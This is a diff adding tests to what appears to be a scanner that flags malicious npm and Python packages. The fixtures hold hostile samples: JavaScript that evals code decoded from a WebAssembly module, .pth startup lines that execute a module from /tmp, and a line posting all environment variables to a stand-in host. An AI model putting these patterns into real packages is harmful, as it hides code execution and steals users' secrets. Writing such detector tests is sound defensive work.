@@ -118,6 +118,31 @@ fn decoding_data_and_running_own_code_are_harmless() {
     harmless(&npm("const b = Buffer.from('e30=', 'base64').toString(); console.log(JSON.parse(b))"));
 }
 
+/// A program in WebAssembly that says where in a text something stands.
+const LEXER: &str = "let machine; const binary = () => Uint8Array.from(atob('AGFzbQEAAAABKwhgAX8BPACKED'), c => c.charCodeAt(0));\n\
+     const init = WebAssembly.compile(binary()).then(WebAssembly.instantiate).then(({ exports: e }) => { machine = e; });\n\
+     const now = () => { machine = new WebAssembly.Instance(new WebAssembly.Module(binary())).exports; };\n";
+
+#[test]
+fn where_a_webassembly_program_cuts_a_text_says_nothing_of_the_text() {
+    let lexer = LEXER.replace("PACKED", &"QUJD".repeat(80));
+    let decode = "function decode(text) { try { return (0, eval)(text) } catch {} }\n";
+    let reads = "const from = machine.is(), to = machine.ie(); names.push(decode(source.slice(from - 1, to + 1)));";
+    harmless(&npm(&format!("{lexer}{decode}export function parse(source, names) {{ {reads} }}\n")));
+    // What comes out of the program itself, is packed, or is spelt letter by letter is run all the same.
+    for run in [
+        "eval(new TextDecoder().decode(new Uint8Array(machine.memory.buffer, machine.at(), machine.length())))",
+        "eval(String.fromCharCode(machine.next(), machine.next()))",
+        "eval(machine.text())",
+        "eval('abcdefghijklmnopqrstuvwxyz()'.charAt(machine.next()))",
+        "eval(atob(source).slice(machine.is(), machine.ie()))",
+        "eval(Buffer.from(machine.memory.buffer).toString().slice(machine.is(), machine.ie()))",
+    ] {
+        let report = npm(&format!("{lexer}export function parse(source) {{ {run} }}\nparse('x')\n"));
+        found(&report, "code:decode-run", Critical);
+    }
+}
+
 #[test]
 fn downloading_and_running_is_found() {
     for body in [
@@ -273,6 +298,14 @@ fn starts_of_python_and_commands_of_npm_are_found() {
     let severity =
         |files: &[(&str, &str)]| gravest(&scanned("a-1.0-py3-none-any.whl", &wheel(files, |_| {})), "install:pth");
     assert_eq!((severity(own), severity(&own[..1])), (Some(Medium), Some(High)));
+    // As setuptools has a namespace package's folder found; and what else can be begun so.
+    let of_namespace = "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a',));importlib = \
+                        __import__('importlib.util');__import__('importlib.machinery');m = sys.modules.setdefault('a', \
+                        importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('a', [os.path.dirname(p)])))\n";
+    let loads = "import sys;u = __import__('importlib.util');s = u.util.spec_from_file_location('a', '/tmp/a');\
+                 s.loader.exec_module(u.util.module_from_spec(s))\n";
+    let of = |line| severity(&[("a-nspkg.pth", line)]);
+    assert_eq!((of(of_namespace), of(loads)), (Some(Medium), Some(High)));
     let manifest = |script: &str| {
         let text = format!(r#"{{"name": "a", "scripts": {{"preinstall": "{script}"}}}}"#);
         scanned("a-1.0.0.tgz", &tgz_of(&[("package/package.json", text.as_str())]))
@@ -316,6 +349,21 @@ fn hidden_and_unreadable_code_is_found() {
     found(&library, "file:binary", Info);
     harmless(&library);
     harmless(&wheel_with("a/__init__.py", "text = '\u{5e9}\u{5dc}\u{5d5}\u{5dd}'  # \u{2764}\u{fe0f}\n"));
+}
+
+/// Counts bound what one file costs: whoever fills it with what costs much hides nothing behind it, and all is as on any machine.
+#[test]
+fn what_takes_many_steps_to_read_hides_no_theft_beside_it() {
+    let steal = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
+    for (text, limit) in [
+        (format!("{steal}{}", "#\n".repeat(100_000)), "scan_tree_steps"),
+        (format!("{}{steal}", "\\\n".repeat(100_000)), "scan_tree_steps"),
+        (format!("{}\n{steal}", "a;".repeat(100_000)), "scan_steps"),
+    ] {
+        let report = setup(&text);
+        found(&report, "code:steal", Critical);
+        assert!(report.limits.iter().any(|met| met.limit == limit), "{:?}", report.limits);
+    }
 }
 
 /// What is carried in a large file is found at its place, whatever stands around it.
